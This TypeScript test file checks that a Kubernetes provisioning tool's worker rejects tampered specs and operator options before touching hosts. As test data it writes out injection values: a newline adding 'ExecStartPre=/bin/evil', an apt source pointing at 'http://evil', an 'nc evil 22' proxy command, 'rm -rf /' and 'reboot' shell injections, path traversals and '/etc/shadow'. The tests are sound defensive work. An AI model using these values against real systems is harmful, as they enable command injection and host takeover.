// The worker re-validates every request before a step or a compensation touches a host.
import { DEFAULT_SCHEDULED_WITHIN_DAYS, renewalOptions } from '../../src/cli/certs-renew-command';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { KUBEADM_RESET } from '../../src/contracts/remote-files';
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { ApplicationFailure } from '@temporalio/common';
import { createActivities } from '../../src/activities';
import { snapshotName, snapshotsOf } from '../../src/activities/steps/backup';
import { checkRequest, specProblem } from '../../src/activities/request-check';
import { compensate } from '../../src/activities/steps/compensate';
import type { HostSession } from '../../src/activities/host/session';
import { SshPool } from '../../src/activities/ssh/pool';
import { compensationFor } from '../../src/contracts/compensation';
import { loadInventory } from '../../src/inventory/load';
import type { ClusterSpec } from '../../src/inventory/spec';
import type { parseDocument } from 'yaml';
import { EXAMPLE, writeInventory } from '../helpers/inventory';

const spec = loadInventory(EXAMPLE, { requireKeyFiles: false }).spec;
/** What the worker receives: the spec after JSON (Temporal's payload converter). */
const received = (edit: (s: ClusterSpec & Record<string, unknown>) => void = () => {}) => {
  const copy = JSON.parse(JSON.stringify(spec)) as ClusterSpec & Record<string, unknown>;
  edit(copy);
  return copy;
};

const refusal = (s: unknown, extra: Partial<{ host: string; backupTag: string }> = {}) => {
  try {
    checkRequest({ spec: s as ClusterSpec, host: 'master01', backupTag: 'article-1a2b3c4d', ...extra });
    return undefined;
  } catch (err) {
    assert.ok(err instanceof ApplicationFailure);
    assert.equal(err.nonRetryable, true);
    assert.equal(err.type, 'InvalidSpec');
    return err.message;
  }
};

test('the spec the CLI built passes (and so do the other example variants)', () => {
  assert.equal(specProblem(received()), undefined);
  assert.equal(refusal(received()), undefined);
  assert.equal(
    specProblem(
      received(
        (s) => (
          (s.ingress.controller = 'none'),
          (s.ingress.manifest = { url: '', sha256: '', field: 'ingress.manifestSha256' }),
          (s.ingress.namespace = ''),
          (s.ingress.selector = {})
        ),
      ),
    ),
    undefined,
  );
});

test('every kind of valid inventory passes the worker check unchanged (no false refusals)', () => {
  const variants: [string, (doc: ReturnType<typeof parseDocument>) => void][] = [
    ['example', () => {}],
    [
      'etcd in docker-compose, containerd from Debian, Calico operator',
      (d) => {
        d.setIn(['etcd', 'mode'], 'docker-compose');
        d.setIn(['packages', 'containerd'], 'debian');
        d.setIn(['cni', 'install'], 'operator');
      },
    ],
    [
      'no ingress, no dashboard, kernel upgrade, pinned packages, own repos',
      (d) => {
        d.setIn(['ingress', 'controller'], 'none');
        d.setIn(['dashboard', 'kind'], 'none');
        d.setIn(['kernel', 'upgrade'], true);
        d.setIn(['packages', 'kubernetesPackageVersion'], '1.37.1-1.1');
        d.setIn(['packages', 'kubernetesRepo'], 'https://mirror.example/k8s/');
        d.setIn(['packages', 'kubernetesRepoKey'], 'https://mirror.example/k8s/key');
        d.setIn(['packages', 'kubernetesRepoKeyFingerprint'], 'DE15 B144 86CD 377B 9E87  6E1A 2346 54DA 9A29 6436');
      },
    ],
    [
      'mirrored manifests with their pins, etcd image from an archive',
      (d) => {
        d.setIn(['cni', 'manifestUrl'], 'http://mirror.example/calico.yaml');
        d.setIn(['cni', 'manifestSha256'], 'a'.repeat(64));
        d.setIn(['dashboard', 'manifestUrl'], 'https://mirror.example/dashboard.yaml');
        d.setIn(['dashboard', 'manifestSha256'], 'unpinned');
        d.setIn(['etcd', 'mode'], 'docker-compose');
        d.setIn(['etcd', 'imageArchiveUrl'], 'http://mirror.example/etcd.tar');
        d.setIn(['etcd', 'imageArchiveSha256'], 'b'.repeat(64));
      },
    ],
    [
      'per-host ssh and interfaces, no network.interface, default endpoint, node ports',
      (d) => {
        d.setIn(['ssh', 'user'], 'admin');
        d.setIn(['hosts', 1, 'ssh'], d.createNode({ user: 'root', port: 2222, strictHostKeyChecking: true }));
        d.setIn(['hosts', 2, 'interface'], 'eth1');
        d.deleteIn(['network', 'interface']);
        d.delete('controlPlaneEndpoint');
        d.setIn(['ingress', 'controller'], 'ingress-nginx');
        d.setIn(['ingress', 'httpNodePort'], 30080);
        d.setIn(['dashboard', 'kind'], 'kubernetes-dashboard');
        d.set('kubernetesVersion', '1.36.2');
      },
    ],
    [
      'containerd from release tarballs, flannel, an air-gapped registry, hosts that are containers on cgroup v1',
      (d) => {
        d.setIn(['packages', 'containerd'], 'tarball');
        d.setIn(['packages', 'containerdTarballUrl'], 'http://mirror.example/containerd.tar.gz');
        d.setIn(['packages', 'containerdTarballSha256'], 'c'.repeat(64));
        d.setIn(['packages', 'runcUrl'], 'http://mirror.example/runc.amd64');
        d.setIn(['packages', 'runcSha256'], 'd'.repeat(64));
        d.setIn(['cni', 'plugin'], 'flannel');
        d.set('kubeadm', d.createNode({ imageRepository: 'mirror.example:5000/k8s', ignorePreflightErrors: ['ExternalEtcdVersion'] }));
        d.set('kubelet', d.createNode({ failCgroupV1: false, resolvConf: '/etc/hakube/resolv.conf' }));
        d.set('kubeProxy', d.createNode({ conntrackMaxPerCore: 0 }));
        d.set('containerd', d.createNode({ registryMirror: 'http://mirror.example:5000', restrictOomScoreAdj: true }));
      },
    ],
  ];
  for (const [what, edit] of variants) {
    const loaded = loadInventory(writeInventory(edit), { requireKeyFiles: true }).spec;
    assert.equal(specProblem(JSON.parse(JSON.stringify(loaded))), undefined, what);
  }
  // A spec recorded by a hakube older than the optional sections (a run resumed by this worker) passes too.
  const old = JSON.parse(JSON.stringify(loadInventory(writeInventory(), { requireKeyFiles: true }).spec)) as Record<string, unknown>;
  for (const section of ['kubeadm', 'kubelet', 'kubeProxy', 'containerd']) delete old[section];
  assert.equal(specProblem(old), undefined, 'a spec without the sections added later');
});

test('a newline in an inventory value is refused, naming the field', () => {
  assert.match(
    refusal(received((s) => (s.hosts[1].address = '10.73.71.26\nExecStartPre=/bin/evil')))!,
    /spec\.hosts\[1\]\.address = "10\.73\.71\.26\\nExecStartPre/,
  );
  assert.match(refusal(received((s) => (s.etcd.clusterToken = 'tok\nen')))!, /spec\.etcd\.clusterToken/);
  assert.match(refusal(received((s) => (s.packages.kubernetesRepoSuite = '/\ndeb http://evil /')))!, /spec\.packages\.kubernetesRepoSuite/);
  assert.match(refusal(received((s) => (s.kubernetes.version = '1.37\n')))!, /spec\.kubernetes\.version/);
});

test('an unknown field anywhere is refused, naming it', () => {
  assert.match(refusal(received((s) => (s.extra = 1)))!, /spec\.extra = 1: unknown field/);
  assert.match(
    refusal(received((s) => ((s.hosts[2].ssh as unknown as Record<string, unknown>).proxyCommand = 'nc evil 22')))!,
    /spec\.hosts\[2\]\.ssh\.proxyCommand = "nc evil 22": unknown field/,
  );
  assert.match(refusal(received((s) => ((s.kernel as Record<string, unknown>).cmd = 'x')))!, /spec\.kernel\.cmd = "x": unknown field/);
});

test('a derived field that does not follow from the inventory fields is refused, naming it', () => {
  assert.match(
    refusal(received((s) => (s.etcd.initialCluster += ',evil=http://10.9.9.9:2380')))!,
    /spec\.etcd\.initialCluster = .*does not follow from the inventory's fields/,
  );
  assert.match(refusal(received((s) => (s.hosts[0].ssh.address = '10.9.9.9')))!, /spec\.hosts\[0\]\.ssh\.address = "10\.9\.9\.9"/);
  assert.match(refusal(received((s) => (s.network.calicoInterfaceRegex = '.*')))!, /spec\.network\.calicoInterfaceRegex/);
  assert.match(refusal(received((s) => (s.hosts[3].ssh.knownHostsFile = '/dev/null')))!, /spec\.hosts\[3\]\.ssh\.knownHostsFile/);
  assert.match(
    refusal(received((s) => (s.hosts[0].ssh.knownHostsFile = '/dev/null')))!,
    /spec\.hosts\[\]\.ssh\.knownHostsFile = "\/dev\/null": must be a file/,
  );
  assert.match(refusal(received((s) => (s.hosts[4].address = s.hosts[3].address)))!, /spec\.hosts\[4\]\.address = .*duplicate/);
});

test('the host and the backup tag are checked too', () => {
  assert.match(refusal(received(), { host: 'elsewhere' })!, /host = "elsewhere": is not a host of this cluster/);
  assert.match(refusal(received(), { backupTag: '..' })!, /backupTag = "\.\.": must be/);
  assert.match(refusal(received(), { backupTag: 'a/../../etc' })!, /backupTag/);
});

test('the activities refuse a tampered spec before any SSH, non-retryably: host steps and compensations', async () => {
  const pool = new SshPool();
  const acts = createActivities({ pool });
  const bad = received((s) => (s.hosts[0].ssh.user = 'root\nProxyCommand evil'));
  const isInvalid = (err: unknown) =>
    err instanceof ApplicationFailure && err.type === 'InvalidSpec' && err.nonRetryable && /spec\.hosts\[0\]\.ssh\.user/.test(err.message);
  await assert.rejects(acts.preflight({ spec: bad, host: 'master01', backupTag: 't-1' }), isInvalid);
  const compensation = compensationFor({ restore: ['etcd-unit'], stop: ['etcd'] }, { host: 'master01', phase: 'etcd', backupTag: 't-1' });
  await assert.rejects(acts.compensate({ spec: bad, compensation }), isInvalid);
  await pool.closeAll();
});

test('compensations reach the shell quoted: unit names and backup paths', async () => {
  const commands: string[] = [];
  const fake = {
    sh: async (c: string) => (commands.push(c), { stdout: '', stderr: '', code: 0 }),
    probe: async (c: string) => (commands.push(c), { stdout: '', stderr: '', code: 0 }),
    test: async (c: string) => (commands.push(c), true),
    restore: async () => 'restored',
    refuse: (m: string) => {
      throw new Error(m);
    },
  } as unknown as HostSession;
  const c = compensationFor(
    { restore: ['etcd-unit'], stop: ['etcd'], restart: ['kubelet'], start: ['containerd'], kubeadmReset: true },
    { host: 'master01', phase: 'etcd', backupTag: 'article-1a2b3c4d' },
  );
  await compensate(fake, c);
  assert.ok(commands.includes(`systemctl stop 'etcd'`), commands.join('\n'));
  assert.ok(commands.includes(`systemctl restart 'kubelet'`));
  assert.ok(commands.includes(`systemctl start 'containerd'`));
  assert.ok(
    commands.some((x) => x.startsWith(`[ -e '/var/lib/hakube/backups/article-1a2b3c4d/kubeadm-started' ]`)),
    commands[0],
  );
  // Unit names (not the fixed kubeadm reset line, whose --skip-phases names etcd) reach the shell quoted.
  const withUnits = commands.filter((x) => !x.includes(KUBEADM_RESET) && /etcd|kubelet|containerd/.test(x));
  assert.ok(withUnits.length >= 3, commands.join('\n'));
  for (const x of withUnits) assert.match(x, /'(etcd|kubelet|containerd)'/, `unquoted: ${x}`);
  // And what the allow-list refuses never reaches a command at all.
  commands.length = 0;
  await assert.rejects(compensate(fake, { ...c, stopUnits: ["etcd'; reboot; '"] }), /compensation refused: unit/);
  assert.deepEqual(commands, []);
});

test("the operator's options are checked too: known keys, types, bounds, hosts of the cluster", () => {
  const req = (options: unknown) => () => checkRequest({ spec, host: 'worknode01', backupTag: 'article-1a2b3c4d', options });
  req({ wipeEtcd: true, purge: false })();
  req({ removing: ['worknode03', 'master03'], force: true, unreachable: false, drainTimeoutSeconds: 300 })();
  const refused = (options: unknown, field: RegExp) =>
    assert.throws(req(options), (e: ApplicationFailure) => e.type === 'InvalidSpec' && field.test(e.message), JSON.stringify(options));
  refused({ drainTimeoutSeconds: '300s; reboot' }, /options\.drainTimeoutSeconds/);
  refused({ drainTimeoutSeconds: 100000 }, /options\.drainTimeoutSeconds.*from 10 to 540/);
  refused({ removing: ['nosuch'] }, /options\.removing.*hosts of this cluster/);
  refused({ removing: ['master01'] }, /options\.removing.*first master/);
  refused({ wipeEtcd: 'yes' }, /options\.wipeEtcd.*true or false/);
  refused({ rmRf: true }, /options\.rmRf.*not an option/);
  refused(['wipeEtcd'], /options.*an object/);
  // Paths on the worker's machine: where a snapshot is written or read, nowhere else.
  req({ backupDir: '/var/backups/hakube', keep: 5 })();
  req({ snapshotFile: '/var/backups/hakube/article-20261127T141500Z.db', snapshotSha256: 'a'.repeat(64) })();
  refused({ backupDir: 'relative/dir' }, /options\.backupDir.*absolute/);
  refused({ backupDir: '/var/backups/../../etc' }, /options\.backupDir.*"\.\."/);
  refused({ backupDir: '/tmp/x\n/etc' }, /options\.backupDir/);
  refused({ keep: 0 }, /options\.keep.*1 to 1000/);
  refused({ snapshotFile: '/etc/shadow' }, /options\.snapshotFile.*\.db/);
  refused({ snapshotSha256: 'abc' }, /options\.snapshotSha256.*sha256/);
  // Certificate renewal: a threshold in whole days, an approval switch.
  req({ renewWithinDays: 30, approveRenewal: true })();
  refused({ renewWithinDays: 0 }, /options\.renewWithinDays.*1 to 3650/);
  refused({ renewWithinDays: '30; rm -rf /' }, /options\.renewWithinDays/);
  refused({ approveRenewal: 'yes' }, /options\.approveRenewal.*true or false/);
  // Upgrade: a batch of workers as a count or a share, an approval switch.
  req({ upgradeBatch: '20%', approveBatches: true, drainTimeoutSeconds: 300 })();
  refused({ upgradeBatch: '0' }, /options\.upgradeBatch.*number of workers/);
  refused({ upgradeBatch: '150%' }, /options\.upgradeBatch/);
  refused({ upgradeBatch: 3 }, /options\.upgradeBatch/);
  refused({ approveBatches: 1 }, /options\.approveBatches.*true or false/);
});

test('certs renew: every certificate by default, 30 days when scheduled, --within checked before anything starts', () => {
  assert.deepEqual(renewalOptions({ cluster: 'a' }), {});
  assert.deepEqual(renewalOptions({ cluster: 'a', schedule: 'every 24h' }), { renewWithinDays: DEFAULT_SCHEDULED_WITHIN_DAYS });
  assert.deepEqual(renewalOptions({ cluster: 'a', within: '90', approve: true }), { renewWithinDays: 90, approveRenewal: true });
  for (const bad of ['0', '30d', '-1', '4000', ''])
    assert.throws(() => renewalOptions({ cluster: 'a', within: bad }), /--within .*whole days from 1 to 3650/, bad);
});

test("snapshot names sort by time and retention sees only this cluster's snapshots", () => {
  assert.equal(snapshotName('article', new Date('2026-11-27T14:15:00.123Z')), 'article-20261127T141500Z.db');
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hakube-snapshots-'));
  for (const f of [
    'article-20261127T141500Z.db',
    'article-20261126T000000Z.db',
    'article-20261126T000000Z.db.sha256',
    'article-x.db',
    'other-20261127T141500Z.db',
    'article-prod-20261127T141500Z.db',
  ])
    fs.writeFileSync(path.join(dir, f), '');
  assert.deepEqual(snapshotsOf(dir, 'article'), ['article-20261126T000000Z.db', 'article-20261127T141500Z.db']);
  fs.rmSync(dir, { recursive: true });
});
